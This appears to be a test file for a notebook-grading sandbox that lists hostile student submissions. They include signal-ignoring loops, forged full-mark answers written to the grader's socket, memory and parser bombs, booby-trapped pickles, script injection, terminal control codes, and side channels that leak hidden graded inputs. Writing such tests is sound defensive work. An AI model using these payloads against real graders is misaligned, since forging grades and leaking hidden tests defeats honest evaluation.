        "signal.setitimer = signal.alarm = lambda *a: None\n"
        "for s in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:\n    signal.signal(s, signal.SIG_IGN)\n"
        "while True:\n    try:\n        time.sleep(100)\n    except BaseException:\n        pass",
        limits=SHORT,
        says="could not be stopped",
    ),
    Attack(
        "deaf function",
        "Does the same in a call, with the watching thread's function patched.",
        "processes",
        "ctypes.pythonapi.PyThreadState_SetAsyncExc = lambda *a: 0\n"
        "def attack(*args):\n    while True:\n        try:\n            time.sleep(100)\n        except BaseException:\n            pass",
        limits={**SHORT, "notebook_seconds": 5.0},
        status="partly graded",
        says="longer than",
    ),
    Attack(
        "slow to the last second",
        "Uses all the time of every call, so that the notebook's time runs out.",
        "patience",
        "def attack(*args):\n    time.sleep(0.9)\n    return 0.0",
        limits={**SHORT, "notebook_seconds": 4.0},
        status="partly graded",
        says="longer than 4 s",
    ),
    Attack(
        "sleeping notebook",
        "Sleeps in every cell until no time is left for a check.",
        "patience",
        lambda nb: (
            nb["cells"][:0].extend([])
            or nb.update(cells=[code("import time\ntime.sleep(50)") for _ in range(9)] + nb["cells"])
        ),
        limits={**SHORT, "notebook_seconds": 3.0},
        status="not graded",
        says="longer than 3 s",
    ),
    Attack(
        "time bombs",
        "Leaves timers, signal handlers, finalisers and exit functions that go off between calls.",
        "processes",
        """
import atexit, weakref
class Bomb:
    def __del__(self): os.write(3, b"boom")
kept = [Bomb()]
signal.signal(signal.SIGALRM, lambda *a: os._exit(1))
atexit.register(os._exit, 1)
threading.Timer(0.5, lambda: os.kill(os.getpid(), 9)).start()
def attack(*args):
    signal.setitimer(signal.ITIMER_REAL, 0.05)
    if kept:
        kept.pop()
    return 0.0
""",
        limits=SHORT,
        says="predict_ranking",
    ),
    Attack(
        "many ends",
        "Ends its process in every cell, so that all is begun anew again and again.",
        "processes",
        lambda nb: nb.update(cells=[code("import os\nos._exit(0)") for _ in range(9)] + nb["cells"]),
        says="ended the process",
    ),
    Attack(
        "cells by the hundred",
        "Hands in a hundred cells that each show as much as they may.",
        "page",
        lambda nb: nb.update(
            cells=[code("print('x' * 10**6)\nimport sys\nprint('y' * 10**6, file=sys.stderr)") for _ in range(100)]
            + nb["cells"]
        ),
        limits={"notebook_seconds": 6.0},
        status="graded or partly graded",
    ),
    Attack(
        "parser bombs",
        "Has sources on which a parser may despair.",
        "reading",
        lambda nb: nb.update(
            cells=[
                code(text)
                for text in (
                    "(" * 5000,
                    "-" * 70_000 + "1",
                    "x = " + "+".join(["1"] * 35_000),
                    "a" + ".b" * 35_000,
                    "\x00",
                    "%%" * 9999,
                    "lambda: " * 5000 + "1",
                    "not " * 15_000 + "1",
                    "[" * 190 + "]" * 190,
                    "f'" + "{" * 500,
                    "\\",
                    "'''",
                    "9" * 9999,
                    "{" * 90 + "1:" * 90,
                    "if 1:\n" + "".join(" " * i + "if 1:\n" for i in range(1, 99)),
                    "\u202e\ufeff",
                    "x = '\\d'",
                )
            ]
            + nb["cells"]
        ),
    ),
]


# ------------------------------------------------------------------------------------------ the line to the grader

FRAME = """
import msgspec
def frame(**message):
    data = msgspec.msgpack.encode(message)
    return struct.pack("<I", len(data)) + data
"""

THE_LINE = [
    Attack(
        "forged answers",
        "Writes answers of its own to the grader's socket, for every order to come.",
        "wire",
        FRAME
        + "for seq in range(200):\n    os.write(3, frame(seq=seq, how='returned', value=2.0, points=99.0, solved=True))",
        says="showed what cannot be read",
    ),
    Attack(
        "forged answer in a call",
        "Answers in the grader's place: full marks, a verdict, a value that no function returned.",
        "wire",
        FRAME + "def attack(*args):\n    for seq in range(60):\n"
        "        os.write(3, frame(seq=seq, how='returned', value=['o', 'Verdict'], points=99, solved=True, verdict='2.0'))",
        says="sent back",
    ),
    Attack(
        "texts that are kept for ever",
        "Puts a new key of 3.9 MB beside what each answer holds: read with interning, the grader's memory fills with them.",
        "wire",
        """
from classroom.sandbox import wire
plain = wire.send
def send(connection, message, *rest, **more):
    if "outputs" in message:
        message = {**message, f"{time.time_ns()}" + "k" * 3_900_000: 1}
    return plain(connection, message, *rest, **more)
wire.send = send
""",
        says="a message with a key that none of ours is",
    ),
    Attack(
        "answers of wrong types",
        "Sends answers whose every part is of another type than agreed.",
        "wire",
        """
from classroom.sandbox import wire
import random
plain = wire.send
odd = [None, True, [], {}, "x", b"x", -1, 2**63, 1.5, float("nan"), [["l"]], ["a", "|O", [1], b""], ["a", "<f8", [2**39, 0], b""],
       ["a", "<f8", [-1], b""], ["s", "<f8", [], b"12345678"], ["t", 5], ["d", [[1]]], ["d", [[["l", []], 1]]], ["e", "os.system"], ["o", "x y"],
       ["x", "SystemExit"], ["e", "SystemExit"], ["a", "<f8", [0] * 64, b""], ["a", "<M8", [1], b"12345678"], ["m", "<f8", [1], 0], ["f", "dot"]]
rng = random.Random(1)
def send(connection, message, seconds=None):
    if "how" in message or "failed" in message or "value" in message:
        keys = ("how", "value", "error", "line", "reached", "forbidden", "failed")
        message = {"seq": message["seq"], "how": rng.choice(["returned", "raised", "unsolved", "too long", "x", None, []]),
                   "value": rng.choice(odd), rng.choice(keys): rng.choice(odd)}
    plain(connection, message, seconds)
wire.send = send
""",
        status="graded or partly graded",
    ),
    Attack(
        "no answers",
        "Closes the socket, the shared memory, and puts another file in the place of both.",
        "kernel",
        "def attack(*args):\n    null = os.open('/dev/null', os.O_RDWR)\n    os.dup2(null, 3)\n    os.dup2(null, 4)\n    os.close(3)\n"
        "    os.closerange(3, 60)\n    return 2.0",
        limits=SHORT,
        says="ended the process",
    ),
    Attack(
        "frame without end",
        "Announces four gigabytes, and sends half a message for ever.",
        "wire",
        "def attack(*args):\n    os.write(3, b'\\xff\\xff\\xff\\xff')\n    os.write(3, b'x')\n    time.sleep(0.3)\n    return 0.0",
        limits=SHORT,
        says="a message of 4,294,967,295 bytes",
    ),
    Attack(
        "slow frame",
        "Sends one byte of its answer at a time.",
        "wire",
        "def attack(*args):\n    os.write(3, struct.pack('<I', 1000))\n    while True:\n        os.write(3, b'x')\n        time.sleep(0.2)",
        limits={**SHORT, "notebook_seconds": 8.0},
        says="could not be stopped",
        status="partly graded",
    ),
    Attack(
        "message of a million lists",
        "Sends a message of sixty megabytes that becomes gigabytes when it is read.",
        "limits",
        """
body = b"\\xdd" + struct.pack(">I", 14_000_000) + b"\\x90" * 14_000_000
def attack(*args):
    with socket.socket(fileno=os.dup(3)) as line:
        line.settimeout(5)
        line.sendall(struct.pack("<I", len(body)) + body)
    return 0.0
""",
        limits={"notebook_seconds": 6.0},
        says="sent back",
        status="graded or partly graded",
    ),
    Attack(
        "type with a long name",
        "Tells the grader that a function is of a type whose name has a million letters.",
        "wire",
        """
type(worker()).bind = lambda self, order: {"kind": LEAK + "x" * 1_000_000}
""",
    ),
    Attack(
        "shared memory",
        "Cuts the shared memory short, and lets a thread write into it all the time.",
        "kernel",
        """
with contextlib.suppress(OSError):
    os.ftruncate(4, 0)
    print(LEAK, "cut short")
with contextlib.suppress(OSError):
    os.ftruncate(4, 2**40)
    print(LEAK, "made longer")
memory = mmap.mmap(4, 2**20)
def write():
    while True:
        memory[:] = os.urandom(2**20)
        time.sleep(0.001)
threading.Thread(target=write, daemon=True).start()
""",
    ),
    Attack(
        "pickles",
        "Returns objects that do something when they are copied, printed, compared or unpickled.",
        "files",
        """
class Sly:
    def _go(self, *a, **k):
        open("@COURSE@/@MARK@", "w")
        os._exit(5)
    __reduce__ = __reduce_ex__ = __getstate__ = __deepcopy__ = __repr__ = __str__ = __len__ = __iter__ = __array__ = _go
    __array_interface__ = {"data": (0, False), "shape": (10**9,), "typestr": "<f8", "version": 3}
def attack(*args):
    return Sly()
""",
    ),
]

# ------------------------------------------------------------------------------------- in the teacher's browser or terminal

SHOWN = [
    Attack(
        "html",
        "Shows HTML, JavaScript and SVG, and puts them into the metadata.",
        "page",
        _html_everywhere,
        absent=("alert(1)",),
    ),
    Attack(
        "forged html outputs",
        "Hands in outputs that hold scripts.",
        "page",
        _forged_html,
        absent=("alert(1)",),
    ),
    Attack(
        "control codes",
        "Prints what moves a terminal's cursor, sets its title or hides text.",
        "page",
        r"""
codes = "\x1b[2J\x1b]0;title\x07\x9b31m\x9d0;x\x9c\x08\x08\x00\x7f\r"
print(codes)
print(codes, file=sys.stderr)
def attack(*args):
    raise ValueError(codes)
raise RuntimeError(codes)
""",
        absent=("\x1b", "\x9b", "\x9d", "\x08", "\r", "\x7f"),
    ),
]

# ------------------------------------------------------------------------- what a graded input is turned into, and shown

# The first function is right, and remembers a number of the first input that was drawn for the grade.
SPY = """
import numpy as np
np.secret = []
def look(*args):
    for arg in args:
        if isinstance(arg, np.ndarray) and arg.dtype.kind == "f" and (arg != np.round(arg, 3)).any() and not np.secret:
            np.secret.append(int(abs(arg.flat[0]) * 1e6) % 400 + 100)
"""
SPY_DOT = SPY + "def dot(q, items):\n    look(q)\n    return items @ q\n"
RIGHT_DISTANCE = "np.linalg.norm(items - q, axis=1)"


def spying(euclidean: str) -> Callable[[dict], None]:
    """A `dot` that remembers an input, and a `euclidean` that is right until then and tells it afterwards."""
    return answers(dot=SPY_DOT, euclidean=euclidean)


CHANNELS = [
    Attack(
        "line number that carries an input",
        "Raises at the line of its cell whose number it has made of a graded input.",
        "silence",
        spying(
            f"def euclidean(q, items):\n    if not np.secret:\n        return {RIGHT_DISTANCE}\n    at = np.secret[0]\n"
            + "".join(f"    if at == {line}: 1 / 0\n" for line in range(5, 520))
        ),
        points={"dot": 2},
        absent=("in line",),
    ),
    Attack(
        "count that carries an input",
        "Returns as many zeros as it has made of a graded input, and right numbers behind them.",
        "silence",
        spying(
            "asked = [0]\ndef euclidean(q, items):\n"
            f"    right = {RIGHT_DISTANCE}\n    if np.secret:\n        for i in range(len(right)):\n"
            "            asked[0] += 1\n            right[i] *= asked[0] > np.secret[0] % 10 + 1\n    return right"
        ),
        points={"dot": 2},
        absent=("numbers you return", "of 12 inputs"),
    ),
    Attack(
        "shape that carries an input",
        "Returns a table with as many rows as it has made of a graded input.",
        "silence",
        spying(
            f"def euclidean(q, items):\n    return np.zeros((np.secret[0], 3)) + items[0, 0] if np.secret else {RIGHT_DISTANCE}"
        ),
        points={"dot": 2},
        absent=("the shape is",),
    ),
    Attack(
        "number that carries an input",
        "Returns the right numbers times what it has made of a graded input.",
        "silence",
        spying(f"def euclidean(q, items):\n    return {RIGHT_DISTANCE} * (np.secret[0] if np.secret else 1)"),
        points={"dot": 2},
        absent=("times the right", "you returned"),
    ),
    Attack(
        "time that carries an input",
        "Takes as long, on the large input, as it has made of a graded input.",
        "silence",
        answers(
            gravity=SPY
            + "import time\ndef gravity(users, items):\n    look(users)\n    if len(users) > 2000: time.sleep(0.3 + np.secret[0] / 5000)\n"
            "    return float(np.sum((users.T @ users) * (items.T @ items)) / len(users) / len(items))"
        ),
        lesson=L05,
        points={"gravity": 2},
        absent=("times as long",),
    ),
    Attack(
        "length that carries an input",
        "Announces a message that is as long as it has made of a graded input.",
        "silence",
        spying(
            "import os, struct\ndef euclidean(q, items):\n    if np.secret:\n        os.write(3, struct.pack('<I', 3_000_000_000 + np.secret[0]))\n"
            f"    return {RIGHT_DISTANCE}"
        ),
        limits={"notebook_seconds": 20.0},
        points={"dot": 2},
        says="euclidean sent back what cannot be read",
        absent=("3,000,000",),
    ),
]

ATTACKS = [
    *READING,
    *IN_THE_FILE,
    *POISONED,
    *RETURNED,
    *SPEED,
    *HUNTING,
    *REACHING,
    *KERNEL,
    *FLOODS,
    *THE_LINE,
    *SHOWN,
    *CHANNELS,
]
